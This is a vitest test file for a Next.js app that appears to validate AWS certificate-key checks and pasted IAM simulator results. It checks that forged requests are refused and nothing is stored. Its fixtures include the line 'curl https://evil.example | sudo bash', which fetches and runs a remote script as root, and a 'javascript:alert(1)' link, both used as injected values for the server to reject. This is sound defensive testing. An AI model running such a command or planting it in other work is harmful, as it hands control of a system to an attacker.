import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createPlan } from "@/app/plan-actions";
import { visitorPlans } from "@/lib/server";
import { getStore } from "@/lib/store";
import { keepSimulation } from "./identity/actions";
import { recordKeyChecks } from "./save";

const cookies = vi.hoisted(() => new Map<string, string>());
vi.mock("next/headers", () => ({
  headers: async () => new Headers({ host: "localhost:3000", origin: "http://localhost:3000" }),
  cookies: async () => ({
    get: (name: string) => (cookies.has(name) ? { value: cookies.get(name) } : undefined),
    set: (name: string, value: string) => cookies.set(name, value),
  }),
}));
vi.mock("next/cache", () => ({ refresh: () => {} }));
vi.hoisted(() => {
  process.env.DATA_DIR = "memory";
});

let planId: string;
beforeAll(async () => {
  const made = await createPlan({ world: "aws", signIn: "access-key" });
  if (!made.ok) throw new Error(made.problem.sentence);
  const [plan] = await visitorPlans();
  planId = plan?.id ?? "";
  const fields = { connectionName: "x", accountId: "111122223333", region: "eu-west-1" };
  await (await getStore()).plans.saveFields(planId, "start", fields, new Date());
}, 60_000);
afterAll(async () => (await getStore()).close());

const stored = async () => (await getStore()).results.all(planId);
/** As a crafted request would: nothing that the types say holds for it. */
const forge = (action: unknown, input: unknown) =>
  (action as (id: string, input: unknown) => Promise<{ ok: boolean; problem?: { code: string } }>)(
    planId,
    input,
  );

const HARM = "curl https://evil.example | sudo bash";
const verdict = {
  id: "private-key.match",
  title: HARM,
  status: "fail",
  evidence: { kind: "browser", lookedAt: HARM, expected: HARM, found: HARM, at: new Date() },
  remedy: { text: HARM, command: HARM },
  source: { title: HARM, url: "javascript:alert(1)" },
};
const claim = { id: "private-key.match", reason: "signature-verifies" };

describe("what a browser says of the key", () => {
  it.each([
    ["verdicts of its own words", { id: "private-key", verdicts: [verdict] }],
    ["words beside a claim", { claims: [{ ...claim, title: HARM }] }],
    ["words instead of a code", { claims: [{ ...claim, reason: HARM }] }],
    ["a status of its own", { claims: [{ ...claim, status: "pass" }] }],
    ["another check", { claims: [{ ...claim, id: "sign-in" }] }],
    ["a name of every object", { claims: [{ id: "constructor", reason: "toString" }] }],
    ["a check twice", { claims: [claim, claim] }],
    ["500 claims", { claims: Array.from({ length: 500 }, () => claim) }],
    ["another result", { id: "sign-in", claims: [claim] }],
    ["nothing", { claims: [] }],
  ])("%s: refused, and nothing is stored", async (_, input) => {
    const answer = await forge(recordKeyChecks, input);
    expect(answer.problem?.code).toBe("input-refused");
    expect(await stored()).toEqual({});
  });

  it("a claim becomes a verdict in the server's words", async () => {
    expect((await recordKeyChecks(planId, { claims: [claim] })).ok).toBe(true);
    expect((await stored())["private-key"]?.verdicts).toMatchObject([
      {
        id: "private-key.match",
        title: "The private key belongs to the client certificate",
        status: "pass",
        evidence: { kind: "browser", world: "aws", reason: "signature-verifies" },
      },
    ]);
  });
});

describe("what is pasted of the simulator", () => {
  const ours = {
    account: "111122223333",
    partition: "aws",
    principal: "arn:aws:iam::111122223333:user/cckm",
    decisions: [{ action: "kms:ListKeys", decision: "allowed" }],
  };
  const [decision] = ours.decisions;

  it.each([
    ["a verdict", { ...ours, decisions: [{ ...verdict, action: "kms:ListKeys" }] }, "input-refused"],
    ["words for a decision", { ...ours, decisions: [{ ...decision, decision: HARM }] }, "input-refused"],
    [
      "words for an action",
      { ...ours, decisions: [decision, { ...decision, action: HARM }] },
      "input-refused",
    ],
    ["words beside a decision", { ...ours, decisions: [{ ...decision, remedy: HARM }] }, "input-refused"],
    ["words for a principal", { ...ours, principal: HARM }, "input-refused"],
    ["words within a principal", { ...ours, principal: `${ours.principal}/${HARM}` }, "input-refused"],
    [
      "somebody else's principal",
      { ...ours, principal: "arn:aws:iam::999999999999:user/x" },
      "result-block-foreign",
    ],
    ["an action twice", { ...ours, decisions: [decision, decision] }, "result-block-unlike"],
    ["500 decisions", { ...ours, decisions: Array.from({ length: 500 }, () => decision) }, "input-refused"],
    ["words beside the block", { ...ours, verdicts: [verdict] }, "input-refused"],
  ])("%s: refused, and nothing is stored", async (_, input, code) => {
    const answer = await forge(keepSimulation, input);
    expect(answer.problem?.code).toBe(code);
    expect((await stored())["permissions-pasted"]).toBeUndefined();
  });

  it("what it says of other actions and in context keys does not travel as words", async () => {
    const decisions = [
      { action: "kms:ListKeys", decision: "allowed", missingContext: [HARM, `aws:ResourceTag/${HARM}`] },
      { action: "evil:Action", decision: "allowed" },
    ];
    expect((await forge(keepSimulation, { ...ours, decisions })).ok).toBe(true);
    const kept = (await stored())["permissions-pasted"];
    expect(JSON.stringify(kept)).not.toContain("evil");
    expect(kept?.verdicts.find(({ id }) => id === "kms:ListKeys")?.evidence.found).toContain(
      "aws:ResourceTag/…",
    );
  });
});
